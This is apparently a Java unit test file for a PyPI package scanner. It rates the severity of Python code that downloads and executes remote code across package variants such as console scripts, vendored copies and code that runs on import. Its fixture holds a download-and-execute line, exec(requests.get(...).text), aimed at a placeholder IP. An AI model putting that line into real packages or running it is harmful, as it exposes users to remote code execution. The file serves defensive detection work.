package io.pypiguard.behavior;

import static org.assertj.core.api.Assertions.assertThat;

import io.pypiguard.analysis.Severity;
import io.pypiguard.testkit.PackageBuilder;
import org.junit.jupiter.api.Test;

class CircumstancesTest {

  private static final String RUNS_WHAT_IT_DOWNLOADS =
      """
      import requests


      def main():
          exec(requests.get("http://192.88.99.9/x").text)
      """;

  private static final String SCRIPT =
      """
      [console_scripts]
      demo = demo.cli:main
      """;

  private static PackageBuilder demo(String summary) {
    return PackageBuilder.wheel("demo", "1.0").metadata("Summary", summary);
  }

  @Test
  void aProgramThatSaysWhatItIsForIsLessGrave() {
    assertThat(
            severity(
                demo("Installs the demo platform")
                    .file("demo/cli.py", RUNS_WHAT_IT_DOWNLOADS)
                    .file("demo-1.0.dist-info/entry_points.txt", SCRIPT)))
        .isEqualTo(Severity.MEDIUM);
  }

  @Test
  void aProgramThatSaysSomethingElseIsAsGrave() {
    assertThat(
            severity(
                demo("Colours for terminals")
                    .file("demo/cli.py", RUNS_WHAT_IT_DOWNLOADS)
                    .file("demo-1.0.dist-info/entry_points.txt", SCRIPT)))
        .isEqualTo(Severity.HIGH);
  }

  @Test
  void aLibraryIsAsGraveWhateverItSays() {
    assertThat(
            severity(
                demo("Installs the demo platform").file("demo/cli.py", RUNS_WHAT_IT_DOWNLOADS)))
        .isEqualTo(Severity.HIGH);
  }

  @Test
  void aCopyOfAKnownLibraryIsLessGrave() {
    assertThat(
            severity(demo("Colours").file("demo/_vendor/requests/api.py", RUNS_WHAT_IT_DOWNLOADS)))
        .isEqualTo(Severity.MEDIUM);
    assertThat(
            severity(demo("Colours").file("demo/_vendor/demolib/api.py", RUNS_WHAT_IT_DOWNLOADS)))
        .isEqualTo(Severity.HIGH);
  }

  @Test
  void whatHappensUnaskedIsAsGraveInACopy() {
    assertThat(
            severity(
                demo("Colours")
                    .file(
                        "demo/_vendor/requests/__init__.py",
                        RUNS_WHAT_IT_DOWNLOADS + "\nmain()\n")))
        .isEqualTo(Severity.CRITICAL);
  }

  private static Severity severity(PackageBuilder builder) {
    return Observed.of(builder).severity("download-and-execute").orElseThrow();
  }
}
